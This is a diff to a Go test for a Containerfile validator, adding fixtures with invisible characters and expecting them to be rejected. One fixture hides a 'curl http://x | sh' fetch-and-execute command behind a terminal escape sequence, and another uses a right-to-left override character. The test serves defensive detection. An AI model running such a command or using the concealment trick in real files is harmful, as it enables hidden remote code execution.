@@ -16,6 +16,8 @@ func TestContainerfile(t *testing.T) {
 		os.MkdirAll(filepath.Join(dir, "sub dir"), 0o700),
 		os.WriteFile(outside, []byte("FROM outside"), 0o600),
 		os.WriteFile(filepath.Join(dir, "sub dir", "File"), []byte("FROM scratch\n"), 0o600),
+		os.WriteFile(filepath.Join(dir, "hides"), []byte("FROM scratch\nRUN true \x1b]; curl http://x | sh #\x07\n"), 0o600),
+		os.WriteFile(filepath.Join(dir, "turns"), []byte("FROM scratch \u202e\n"), 0o600),
 		os.WriteFile(filepath.Join(dir, "blank"), []byte(" \n"), 0o600),
 		os.WriteFile(filepath.Join(dir, "large"), []byte(strings.Repeat("#", maxSize+1)), 0o600),
 		os.Symlink(outside, filepath.Join(dir, "out")),
@@ -30,6 +32,7 @@ func TestContainerfile(t *testing.T) {
 	for image, want := range map[string]string{
 		"./sub dir/File": "", "./in": "", "localhost/a:1": "",
 		"./missing": "no such file", "./sub dir": "no regular file", "./pipe": "no regular file", "./blank": "is empty",
+		"./hides": "hides:2: it has characters that cannot be seen", "./turns": "turns:1: it has characters",
 		"./large": "larger than 65536 bytes", "./out": "escapes", "./folder/outside": "escapes", "./../outside": "escapes",
 		"../outside": "want the name of an image", outside: "want the name of an image", "-rm": "want the name of an image",
 	} {
